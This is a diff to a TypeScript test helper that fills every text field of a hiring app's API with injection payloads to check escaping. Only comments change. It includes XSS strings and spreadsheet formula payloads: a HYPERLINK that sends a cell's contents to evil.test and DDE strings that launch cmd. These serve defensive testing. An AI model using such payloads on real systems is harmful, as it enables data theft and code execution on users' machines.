@@ -1,6 +1,6 @@
-// An agency in which every text that anybody can write is an attack: on who opens a table (formulas), on who reads a page or a
-// letter (scripts, attributes, ends of scripts), on headers and paths. The texts are put where the contract has a place for
-// text, so that a new field is attacked as soon as its call is made here.
+// An agency in which every text field contains an attack: on readers of tables (formulas), pages and
+// emails (scripts, attributes, script ends), headers and paths. Texts are filled in by the contract's
+// schemas, so a new field is attacked as soon as its call is made here.
 import { randomBytes } from 'node:crypto';
 import * as core from 'zod/v4/core';
 import type * as z from 'zod/mini';
@@ -16,10 +16,10 @@ import type { Interviewee } from './interviewing.ts';
 import { companyDraft, jobDraft, questionDraft } from './people.ts';
 import type { Person } from './people.ts';
 
-/** All of it at once, for places with room; cut to what a place has. What it would do is `hostileRan`. */
+/** All attacks in one text, cut to the field's length. It would call `hostileRan`. */
 export const attack = `=1+1<img src=x onerror=hostileRan()>"'onmouseover=hostileRan()</script></title></textarea></style><script>hostileRan()</script><svg/onload=hostileRan()>javascript:hostileRan()`;
 
-/** What is known of such texts, one by one: as candidates' names and answers. */
+/** Known attacks, one at a time, as candidates' names and answers. */
 export const corpus = [
   attack,
   ...['=HYPERLINK("https://evil.test?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3+cmd|x!A0', '@SUM(1+1)*cmd|x!A0'],
@@ -77,13 +77,13 @@ export interface HostileWorld {
   company: Company;
   job: JobDetail;
   candidates: { who: Interviewee; id: string; name: string }[];
-  /** Of a link that shows them to somebody without an account. */
+  /** Of a link that shows the candidates to a guest. */
   reviewHash: string;
-  /** Every text that was sent as an attack, by its place: `createJob questions.question`. */
+  /** Every text that was sent as an attack, by its path: `createJob questions.question`. */
   attacked: ReadonlySet<string>;
 }
 
-/** `texts`: a candidate for each. */
+/** `texts`: one candidate for each. */
 export async function makeHostileWorld(
   test: Callable,
   { token }: Pick<Person, 'token'>,
@@ -242,7 +242,7 @@ export async function makeHostileWorld(
     await tell('addQuickNote', endpoints.addQuickNote, { body: { id: newId(), text: 'x' } });
   }
 
-  /** With this text as whatever a candidate writes. */
+  /** An interview with this text in every field of the candidate. */
   async function interview(text: string, n: number) {
     const email = `c${n}@example.test`;
     const who = await begin(test, job, {
@@ -332,10 +332,12 @@ export async function makeHostileWorld(
   }
 }
 
-/** What was there when a page was opened: compared with what is there now, and kept nowhere. */
+/** The version that a page was opened with; it is compared and not stored. */
 const compared = 'seen';
 
-/** Every text of a body replaced by the attack, cut to its length; what is no text, or a text of a form, stays. */
+/**
+ * Replaces every free text of a body with the attack, cut to its length. Texts with a checked form stay.
+ */
 export function withAttacks(
   schema: core.$ZodType,
   value: unknown,
@@ -365,12 +367,12 @@ export function withAttacks(
   note(path);
   const form = forms[path.split('.').at(-1) ?? ''];
   if (form) return form(value);
-  // What a message is filled with stays in it.
+  // Variables of a message stay in it.
   const filled = typeof value === 'string' && value.includes('{{') ? ` ${value}` : '';
   return attack.slice(0, longest - filled.length) + filled;
 }
 
-/** Texts whose form is checked beyond the schema: attacked within it, or as they are. */
+/** Texts with checks beyond the schema: attacked within their form, or unchanged. */
 const forms: Record<string, (value: unknown) => unknown> = {
   captions: () => `WEBVTT\n\n00:00.000 --> 00:09.000\n${attack}`,
   video_link: (value) => value,
@@ -378,7 +380,7 @@ const forms: Record<string, (value: unknown) => unknown> = {
   time_zone: (value) => value,
 };
 
-/** The paths of the texts that a body has a place for: `questions.tests.text`. */
+/** The paths of a body's texts: `questions.tests.text`. */
 export function textsOf(schema: core.$ZodType, path = ''): string[] {
   if (path === compared) return [];
   if (schema instanceof core.$ZodObject)
@@ -405,7 +407,7 @@ function innerOf(schema: core.$ZodType): core.$ZodType | undefined {
   return isAround ? schema._zod.def.innerType : undefined;
 }
 
-/** How long a text may be; undefined for what is no text, or has a form that it is checked by. */
+/** The maximum length of a text; undefined for other types and texts with a checked form. */
 function lengthOf(schema: core.$ZodType): number | undefined {
   if (!(schema instanceof core.$ZodString) || schema instanceof core.$ZodStringFormat) return undefined;
   const checks = (schema._zod.def.checks ?? []).map(({ _zod }) => _zod.def);
